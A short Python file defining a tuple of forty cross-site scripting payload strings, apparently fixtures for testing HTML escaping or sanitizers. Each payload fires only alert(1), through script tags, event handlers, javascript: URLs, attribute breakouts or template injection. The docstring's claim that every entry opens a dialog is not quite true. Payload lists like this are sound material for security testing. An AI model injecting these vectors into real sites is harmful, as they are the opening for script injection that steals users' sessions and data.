"""Forty texts that would run a script in a careless page; each would open a dialog."""

PAYLOADS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "</script><script>alert(1)</script>",
    "<script src=data:,alert(1)></script>", "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'//",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<base href=javascript:alert(1)//>", "<link rel=stylesheet href=data:,*{color:red}>", "<style>@import 'javascript:alert(1)'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
    "\" onmouseover=alert(1) x=\"", "' autofocus onfocus=alert(1) x='", "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "`-alert(1)-`", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "javascript:alert(1)", "--><script>alert(1)</script><!--",
)  # fmt: skip
